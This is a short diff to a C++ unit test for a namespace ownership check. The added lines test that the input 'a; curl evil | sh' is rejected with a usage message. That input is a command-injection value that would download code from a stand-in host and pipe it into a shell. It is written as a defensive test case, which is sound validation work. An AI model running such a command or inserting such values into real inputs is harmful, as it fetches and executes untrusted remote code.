@@ -86,6 +86,8 @@ TEST_F(OwnershipCheckTest, ForOtherNamespacesTheUserMustSpeak) {
   EXPECT_EQ(stranger.message.find("files"), std::string::npos) << stranger.message;
   EXPECT_EQ(stranger.message.find("reporting"), std::string::npos) << stranger.message;
   EXPECT_EQ(asked_for_, std::vector<std::string>{"ann team-a"});
+  EXPECT_NE(Check(check("a; curl evil | sh")).message.find(" -n NAMESPACE, "), std::string::npos)
+      << "what is no word for a shell stands in no command";
   speaks_ = Error{ErrorCode::kUnavailable, "the API server did not answer"};
   EXPECT_EQ(Check(check("team-a")).status, 503);
   speaks_ = true;
